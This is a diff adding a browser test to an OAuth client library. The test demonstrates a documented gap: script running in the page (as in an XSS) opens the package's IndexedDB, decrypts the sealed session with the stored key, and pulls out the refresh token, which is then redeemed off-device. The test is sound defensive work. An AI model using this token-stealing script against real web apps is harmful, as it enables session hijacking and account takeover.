@@ -348,6 +348,67 @@ describe("browser client", { skip, timeout: 600_000 }, () => {
     }
   });
 
+  // The known gap SECURITY.md and docs/react.md describe (until DPoP binds
+  // the tokens to the device): a script running in the app's origin (an
+  // XSS) can open the package's IndexedDB, use the non-extractable key to
+  // decrypt the stored session, and redeem its refresh token anywhere.
+  test("page script (XSS) can decrypt the stored refresh token: the documented gap", async () => {
+    const env = await startIssuer();
+    const ctx = await browser(env);
+    try {
+      const page = await openApp(ctx, env);
+      await login(page, env);
+      const stolen = await page.evaluate(async () => {
+        const db = await new Promise((resolve, reject) => {
+          const r = indexedDB.open("bridgekeeper");
+          r.onsuccess = () => resolve(r.result);
+          r.onerror = () => reject(r.error);
+        });
+        const all = (fn) =>
+          new Promise((resolve, reject) => {
+            const r = fn(db.transaction("kv").objectStore("kv"));
+            r.onsuccess = () => resolve(r.result);
+            r.onerror = () => reject(r.error);
+          });
+        const keys = await all((s) => s.getAllKeys());
+        const values = await all((s) => s.getAll());
+        const unb64 = (s) => Uint8Array.from(atob(s), (c) => c.charCodeAt(0));
+        // Each "key:NAME" entry is a CryptoKey; NAME/slot entries are sealed with it.
+        for (const [j, keyName] of keys.entries()) {
+          if (!keyName.startsWith("key:")) continue;
+          const name = keyName.slice(4);
+          for (const [i, k] of keys.entries()) {
+            if (typeof values[i] !== "string" || !k.startsWith(name + "/")) continue;
+            const [iv, ct] = values[i].split(".");
+            try {
+              const pt = await crypto.subtle.decrypt(
+                { name: "AES-GCM", iv: unb64(iv), additionalData: new TextEncoder().encode(k) },
+                values[j],
+                unb64(ct),
+              );
+              const m = new TextDecoder().decode(pt).match(/"refresh_token":\s*"([^"]+)"/);
+              if (m) return m[1];
+            } catch {
+              // not a value of this key
+            }
+          }
+        }
+        return JSON.stringify(keys);
+      });
+      assert.ok(stolen && !stolen.startsWith("["), "the page's script found the refresh token in IndexedDB: " + stolen);
+      // Redeemed from outside the browser (the attacker's server).
+      const r = await fetch(env.issuer + "/oauth2/token", {
+        method: "POST",
+        body: new URLSearchParams({ grant_type: "refresh_token", refresh_token: stolen, client_id: "test-spa" }),
+      });
+      assert.equal(r.status, 200, "the stolen refresh token works off the device");
+      assert.ok((await r.json()).access_token);
+    } finally {
+      await ctx.close();
+      env.stop();
+    }
+  });
+
   test("the broker being down is an error, not a logout", async () => {
     const env = await startIssuer();
     const ctx = await browser(env);
